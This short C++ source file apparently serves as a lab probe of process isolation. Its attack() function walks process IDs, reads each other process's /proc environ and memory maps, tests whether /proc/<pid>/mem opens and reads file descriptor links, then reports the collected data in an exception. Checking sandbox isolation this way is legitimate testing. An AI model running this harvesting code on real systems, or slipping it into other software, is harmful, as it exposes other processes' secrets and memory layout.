#include <unistd.h>

#include <fstream>
#include <stdexcept>
#include <string>

namespace {

std::string contents(const std::string& path) {
  std::ifstream file(path);
  return {std::istreambuf_iterator<char>(file), {}};
}

}  // namespace

namespace lab {

void attack() {
  std::string found;
  for (int pid = 1; pid < 70000; ++pid) {
    if (pid == getpid()) continue;
    const std::string process = "/proc/" + std::to_string(pid);
    found += contents(process + "/environ") + contents(process + "/maps");
    if (std::ifstream(process + "/mem")) found += process + "/mem opens ";
    char target[512];
    if (readlink((process + "/fd/3").c_str(), target, sizeof target) > 0) found += process + "/fd/3 tells ";
  }
  throw std::runtime_error("[" + std::to_string(found.size()) + " bytes] " + found);
}

}  // namespace lab
